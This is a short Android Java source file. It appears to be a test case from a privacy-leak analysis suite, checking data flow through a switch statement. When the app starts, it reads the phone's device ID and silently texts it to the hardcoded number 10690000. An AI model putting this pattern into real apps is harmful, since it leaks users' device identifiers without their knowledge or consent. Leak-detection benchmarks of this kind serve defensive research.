package cn.privlens.suite.case_with_break;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private String pick(String word) {
        String out;
        switch (word) {
            case "id":
            out = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
            break;
            case "name":
            out = "demo";
            break;
            default:
            out = "";
        }
        return out;
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SmsManager.getDefault().sendTextMessage("10690000", null, pick("id"), null, null);
    }
}
